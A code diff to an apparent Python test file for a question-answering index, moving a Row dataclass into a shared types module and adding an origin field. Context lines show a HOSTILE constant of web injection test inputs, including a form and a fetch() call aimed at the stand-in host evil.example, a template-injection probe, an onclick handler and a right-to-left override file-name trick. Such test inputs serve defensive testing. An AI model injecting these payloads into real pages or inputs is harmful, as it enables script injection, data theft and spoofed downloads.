@@ -10,7 +10,7 @@ import builtins
 import re
 import threading
 from collections.abc import Iterable, Iterator, Sequence
-from dataclasses import dataclass, replace
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, Literal, cast
@@ -18,7 +18,7 @@ from typing import TYPE_CHECKING, Any, Literal, cast
 from index.problem import Problem
 from index.search import checked_question
 from index.sentences import split_sentences
-from index.types import AddReport, Article, Chunk, Filters, Passage, Span
+from index.types import AddReport, Article, Chunk, Filters, Passage, Row, Span
 from qa.settings import Settings
 from qa.types import Answer, Citation, Delta, Event, Retrieved, Rewritten, Sentence, Timings
 
@@ -34,20 +34,6 @@ HOSTILE = (
     "<form action=https://evil.example/f><input name=q></form> "
     "${fetch('https://evil.example/t')} {{constructor}} <b onclick=1>bold</b> \u202egnp.exe"
 )
-
-
-@dataclass(frozen=True)
-class Row:
-    id: str
-    title: str
-    source: str | None
-    author: str | None
-    url: str | None
-    published: date | None
-    added: str
-    chars: int
-    chunks: int
-    state: str
 
 
 class FakeArticles:
@@ -90,7 +76,7 @@ class FakeArticles:
 
     def list(self) -> builtins.list[Row]:
         return [
-            Row(a.id, a.title, a.source, a.author, a.url, a.published, a.added, len(a.text), len(chunks(a)), "indexed")
+            Row(a.id, a.title, a.source, a.author, a.url, a.published, a.added, len(a.text), len(chunks(a)), "indexed", a.origin)
             for a in self.kept.values()
         ]
 
